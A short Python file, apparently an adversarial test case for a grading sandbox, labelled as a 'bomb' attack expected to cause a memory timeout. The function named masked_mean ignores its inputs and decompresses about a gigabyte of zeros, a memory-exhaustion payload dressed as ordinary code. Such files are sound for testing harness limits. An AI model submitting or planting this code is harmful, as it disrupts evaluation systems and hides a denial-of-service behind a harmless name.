"""attack: expands a small string enormously
strategy: zlib of a gigabyte of zeros, kept in the source as a few kilobytes
family: bombs
question: q1_pool
expect: memory timeout
"""

import zlib


def masked_mean(hidden, mask):
    packer = zlib.compressobj(1)
    small = b"".join(packer.compress(bytes(2**20)) for _ in range(1024)) + packer.flush()
    return zlib.decompress(small)
